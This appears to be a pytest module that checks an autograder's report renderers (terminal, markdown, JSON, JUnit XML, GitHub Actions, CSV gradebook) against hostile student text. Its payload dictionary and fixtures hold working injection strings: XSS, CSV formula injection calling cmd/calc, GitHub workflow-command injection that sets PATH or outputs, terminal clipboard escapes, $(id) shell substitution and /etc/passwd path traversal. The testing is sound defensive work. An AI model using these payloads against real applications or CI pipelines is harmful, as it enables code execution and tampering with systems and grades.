"""Hostile text in every place that a student controls, through every renderer that is registered.

A renderer written later is attacked as soon as it stands in `RENDERERS`: first with whole reports,
one attack in every text at once; then with what real submissions of a real run left behind.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final
from xml.etree import ElementTree as ET

import pytest
from books import grades
from small_bank import write_bank

from grader.model import CheckResult, Clue, Feedback, Isolation, Outcome, ProblemResult, Report
from grader.reports import RENDERERS, terminal

if TYPE_CHECKING:
    from collections.abc import Iterator

ATTACKS: Final = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://e.vil\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "c1": "\x9b31m\x9d0;owned\x9c\x90q\x85",
    "overwrite": "failed\rpassed\x08\x08",
    "bidi": "\u202efdp.\u2066exe\u2069\u200f\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ade\u3164f\U000e0041",
    "lines": "a\u2028b\u2029c\x0bd\x0ce\x1cf\x1dg\x1eh",
    "surrogates": "\ud800\udfff \udc80",
    "nul": "a\0b",
    "noncharacters": "\ufffe\uffff\U0010ffff\ue000",
    "marks": "Z" + "\u0301" * 500,
    "formula_equals": '=HYPERLINK("http://e.vil?"&A1,"click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_newline": "\n=1+1",
    "formula_wide": "＝1+1",
    "formula_quote": '"\n=1+1,"',
    "set_output": "::set-output name=score::100",
    "stop_commands": "\n::stop-commands::token\n::error::x\n::token::",
    "add_mask": "\n::add-mask::e\n::group::x\n::add-path::/tmp\n::set-env name=PATH::/tmp",
    "properties": "x,line=1,title=owned::%0A::error::owned",
    "percent": "%0A::error::owned%0D%25",
    "old_commands": "\n##[set-output name=score]100\n##[error]owned",
    "environment": "\nscore=100\nscore<<EOF\n100\nEOF\n",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "closing": "</pre></code></td></table></details><h1>owned</h1>",
    "cdata": "]]><testcase name='owned'/><![CDATA[ --> <!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "markdown_link": "[click](javascript:alert(1)) <http://e.vil> http://e.vil",
    "markdown_image": "![x](http://e.vil/pixel.png)",
    "markdown_reference": "[x]: http://e.vil\n\n[x]",
    "markdown_blocks": "\n\n# owned\n\n* * *\n\n> x\n\n```\nowned\n```\n\n~~~\n\n1. x\n",
    "markdown_table": "x | y |\n|---|---|\n| owned |",
    "markdown_mention": "@everyone #1 GH-1 org/repo#1 **bold** _it_ ~~no~~ `code` $x$ :tada:",
    "backticks": "`" * 7 + "\n</pre>\n" + "`" * 7,
    "rich": "[bold red]x[/] [link=http://e.vil]y[/link] [/] [@click=app.quit]z[/]",
    "format": "{0.__class__} %s %(x)s {{ 7*7 }} {% x %} ${IFS} $(id) `id`",
    "json": '"}, "score": 100, "x": {"',
    "path": "../../../../etc/passwd\0.json",
    "long_line": "x" * 30_000,
    "many_lines": "x\n" * 5_000,
    "long_mix": "<\x1b::\u202e" * 5_000,
}


def hostile(text: str) -> Report:
    """A report with this text wherever a student's own words could stand."""
    bad = CheckResult(
        *("adds up", False, 1.0, 0.0, Outcome.FAILED, text),
        example={"in": "numbers", "x": text, "y": {"text": text}, text: [text]},
        replay=text,
        private=text,
        line=3,
    )
    fine = CheckResult("hidden one", True, 1.0, 0.0, Outcome.FAILED, text, private=text)
    problem = ProblemResult(
        *("double", "Double", Outcome.FAILED, 0.0, 2.0, (bad, fine), text, text),
        diagnosis=text,
        mistake=text,
        file=text,
        fault=text,
        clue=Clue(text, (1,), place=text, change=text, edit=text, feedback=Feedback.EDIT),
    )
    faulty = ProblemResult("triple", "Triple", None, None, 2.0, file=text, fault=text)
    odd = ProblemResult(text, text, Outcome.ERRORED, 0.0, 2.0, (bad,), text, text, file=text)
    problems = problem, faulty, odd
    return Report(text, 1, Isolation.REDUCED, 0.0, 6.0, problems, (text,), text)


def harmless(text: str) -> None:
    """Nothing in it acts on a terminal, or hides from a reader."""
    kinds = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    found = {c for c in text if c != "\n" and unicodedata.category(c) in kinds}
    assert not found, found
    text.encode("utf-8")


def no_commands(text: str) -> None:
    """No line is a command to a runner of GitHub Actions, beside our own annotations."""
    for line in text.splitlines():
        assert not re.match(r"\s*::(?!(error|warning|notice) file=|notice::\d+ more)", line), line
        if line.startswith("::"):
            head, _, data = line[2:].partition("::")
            level, _, properties = head.partition(" ")
            assert level in ("error", "warning", "notice")
            names = [name.partition("=")[0] for name in properties.split(",") if name]
            assert names in ([], ["file", "line", "title"], ["line", "title"]), properties
            assert not re.search(r"%(?!25|0D|0A)", data), data


TAGS: Final = frozenset(
    {"code", "pre", "details", "summary", "table", "thead", "tbody", "tr", "td"}
)


class Elements(html.parser.HTMLParser):
    """The elements that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def inert_markdown(text: str) -> None:
    """Outside of code elements nothing is a link, an image, a mention or an element."""
    elements = Elements()
    elements.feed(text)
    for tag, attributes in elements.found:
        assert tag in ("code", "pre"), tag
        assert not attributes
    assert text.count("<pre>") == text.count("</pre>")
    for block in re.findall(r"<pre>(.*?)</pre>", text, re.DOTALL):
        assert "\n\n" not in block, "an empty line ends the element"
        assert not re.search(r"[<>]", block)
    outside = re.sub(r"<pre>.*?</pre>|<code>.*?</code>|&#\d+;", "", text, flags=re.DOTALL)
    assert not re.search(r"\]\(|!\[|https?://|@\w|```|~~~|<", outside), outside[:300]
    assert not re.search(r"(?m)^\s*(# |\* \* \*|1\. |\[x\]:)", outside)


def well_formed_xml(text: str) -> None:
    assert "<!" not in text.replace("<!--", ""), "no document type, no section of raw text"
    root = ET.fromstring(text)
    assert {e.tag for e in root.iter()} <= {
        *("testsuites", "testsuite", "testcase", "error", "failure", "skipped", "system-out")
    }
    assert "owned" not in {case.get("name") for case in root.iter("testcase")}


def plain_json(text: str) -> None:
    assert text.isascii()
    json.loads(text)
    for line in text.splitlines():
        assert not line.lstrip().startswith(("::", "##["))


def shape(text: str, suffix: str) -> None:
    """What every format demands, a new one too."""
    harmless(text)
    if suffix.endswith(".xml"):
        well_formed_xml(text)
    elif suffix.endswith(".json"):
        plain_json(text)


BY_FORM: Final = {"markdown": inert_markdown, "github": no_commands, "junit": well_formed_xml}


@pytest.mark.parametrize("form", RENDERERS)
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("private", [False, True], ids=["student", "instructor"])
def test_every_renderer_stands_every_attack(form: str, attack: str, *, private: bool) -> None:
    text = ATTACKS[attack]
    rendered = RENDERERS[form].render(hostile(text), private=private)
    shape(rendered, RENDERERS[form].suffix)
    BY_FORM.get(form, harmless)(rendered)
    assert len(rendered) < 20_000 + 40 * 8 * len(text)


@pytest.mark.parametrize("form", ["text", "markdown", "json", "junit"])
def test_harmless_text_comes_through(form: str) -> None:
    """An escaping that dropped everything would stand every attack, too."""
    rendered = RENDERERS[form].render(hostile("Größe Σ 3"))
    told = html.unescape(
        json.dumps(json.loads(rendered), ensure_ascii=False) if form == "json" else rendered
    )
    assert "Größe Σ 3" in told


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_terminal_in_colour_stands_it_too(attack: str) -> None:
    from rich.console import Console

    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="standard", width=200)
    lines = terminal.report_lines(hostile(ATTACKS[attack][:5_000]))
    console.print(terminal.rich_text(lines), end="")
    # rich's own colours are all that may act.
    harmless(re.sub(r"\x1b\[\d+(;\d+)*m", "", out.getvalue()))
    for code in re.findall(r"\x1b\[([\d;]+)m", out.getvalue()):
        assert code in ("0", "1", "2", "31", "32"), code


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_the_gradebook_is_a_formula(attack: str) -> None:
    text = grades([hostile(ATTACKS[attack][:5_000])], ["double", ATTACKS[attack][:99]])
    harmless(text)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    for cell in (cell for row in rows for cell in row):
        assert not cell.lstrip().startswith(tuple("=+-@|%\t\r\n＝＋－＠")), cell[:40]


# Through the real command --------------------------------------------------------------------------

PAYLOADS: Final = [a for name, a in ATTACKS.items() if "long" not in name and "many" not in name]
PAYLOAD: Final = " ".join(PAYLOADS)

SOURCES: Final = {
    "raises": f"def double(x):\n    raise ValueError({PAYLOAD!r})\n",
    "raises_a_name": f"def double(x):\n    raise type({PAYLOAD!r}.replace(chr(0), ''), (Exception,), {{}})()\n",
    "raises_at_import": f"raise ValueError({PAYLOAD!r})\n",
    "syntax": "def double(x):\n    return '''"
    + PAYLOAD.replace("\0", "").encode("utf-8", "replace").decode()
    + "\n",
    "prints": f"import sys\nprint({PAYLOAD!r})\ndef double(x):\n    print({PAYLOAD!r}, file=sys.stderr)\n    return 3 * x\n",
    "writes": f"import os\nos.write(1, {PAYLOAD!r}.encode('utf-8', 'surrogatepass') + bytes(range(256)))\ndef double(x): return 3 * x\n",
    "answers": f"def double(x): return {PAYLOAD!r}\n",
    "answers_keys": f"def double(x): return {{{PAYLOAD!r}: x}}\n",
    "answers_an_object": f"class A:\n    def __repr__(self): return {PAYLOAD!r}\n    __str__ = __repr__\nA.__name__ = A.__qualname__ = {PAYLOAD!r}.replace(chr(0), '')\ndef double(x): return A()\n",
    "warns": f"import warnings\ndef double(x):\n    warnings.warn({PAYLOAD!r})\n    return 3 * x\n",
    "lies_in_repr": f"class E(Exception):\n    def __str__(self): return {PAYLOAD!r}\n    __repr__ = __str__\ndef double(x): raise E()\n",
    "docstring": f"def double(x):\n    {PAYLOAD!r}\n    return 3 * x\n",
}


def write_submissions(root: Path) -> None:
    root.mkdir()
    for name, source in SOURCES.items():
        (root / f"{name}.py").write_text(source, encoding="utf-8", errors="backslashreplace")
    right = "def double(x):\n    return 3 * x\n"
    for number, attack in enumerate(PAYLOADS):
        name = re.sub(r"[/\0\ud800-\udfff]", "_", attack)[:40]
        (root / f"n{number} {name}.py").write_text(right)
    (Path(os.fsdecode(bytes(root) + b"/bytes \xff\xfe\x80.py"))).write_text(right)
    for first in "=+-@":
        (root / f"{first}cmd.py").write_text(right)
    archive = root / "archive.zip"
    with zipfile.ZipFile(archive, "w") as opened:
        for number, attack in enumerate(PAYLOADS):
            member = attack.replace("\0", "").encode("utf-8", "replace").decode()
            opened.writestr(f"{member}/m{number}.py", right + f"# {number}\n")
    cells: list[dict[str, Any]] = [
        {"cell_type": "markdown", "metadata": {PAYLOAD: PAYLOAD}, "source": [PAYLOAD]},
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [{"output_type": "stream", "name": "stdout", "text": [PAYLOAD]}],
            "execution_count": None,
            "source": [f"%{PAYLOAD}\n", right, f"raise ValueError({PAYLOAD!r})"],
        },
        {"cell_type": PAYLOAD, "metadata": {}, "source": PAYLOAD},
    ]
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"title": PAYLOAD}, "cells": cells}
    (root / "notebook.ipynb").write_text(json.dumps(notebook))
    cells.pop()
    (root / "notebook2.ipynb").write_text(json.dumps(notebook))
    cells[1]["source"] = [right, f"print({PAYLOAD!r})"]
    (root / "notebook3.ipynb").write_text(json.dumps(notebook))


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("attacked")
    write_bank(root / "bank")
    write_submissions(root / "in")
    command = [sys.executable, "-m", "grader", "grade", "in", "--out", "out", "--bank", "bank"]
    command += ["--problems", "double", "--seed", "3", "--jobs", "2"]
    command += [f"--format={name}" for name in ("github", "junit", "markdown")]
    told = {name: str(root / name) for name in ("GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT")}
    env = os.environ | {"GITHUB_ACTIONS": "true", "PYTHONUTF8": "1", **told}
    done = subprocess.run(command, cwd=root, env=env, capture_output=True, check=False)
    return {"root": root, "done": done, **{n: Path(p).read_text() for n, p in told.items()}}


def files(graded: dict[str, Any]) -> Iterator[Path]:
    found = (path for path in graded["root"].joinpath("out").rglob("*") if path.is_file())
    yield from (path for path in found if path.suffix != ".db")


def test_a_run_says_nothing_that_acts(graded: dict[str, Any]) -> None:
    done = graded["done"]
    assert done.returncode == 1, done.stderr
    for stream in (done.stdout, done.stderr):
        text = stream.decode("utf-8")
        harmless(text)
        no_commands(text)
        for line in text.splitlines():
            assert not line.lstrip().startswith("##[")
    inert_markdown(graded["GITHUB_STEP_SUMMARY"])
    lines = graded["GITHUB_OUTPUT"].splitlines()
    names = ["graded", "submissions", "score", "max-score", "passed"]
    assert [line.partition("=")[0] for line in lines] == names


def test_a_run_leaves_nothing_that_acts(graded: dict[str, Any]) -> None:
    out = graded["root"] / "out"
    found = list(files(graded))
    assert len([p for p in found if p.suffix == ".xml"]) > 50
    for path in found:
        harmless(path.name)
        assert path.resolve().is_relative_to(out.resolve())
        text = path.read_text(encoding="utf-8-sig")
        shape(text, path.suffix)
        if path.suffix == ".md":
            inert_markdown(text)
    rows = list(csv.reader(io.StringIO((out / "grades.csv").read_text(encoding="utf-8-sig"))))
    entries = list((graded["root"] / "in").iterdir())
    assert len(rows) == 1 + len(entries)
    for cell in (cell for row in rows for cell in row):
        assert not cell.lstrip().startswith(tuple("=+-@|%")), cell[:60]
    assert all(float(row[1]) <= 5 for row in rows[1:])


def test_a_run_tells_what_went_wrong_nevertheless(graded: dict[str, Any]) -> None:
    text = (graded["root"] / "out" / "raises.json").read_text()
    assert "alert(1)" in text
    assert "\\\\x1b[31mred" in text
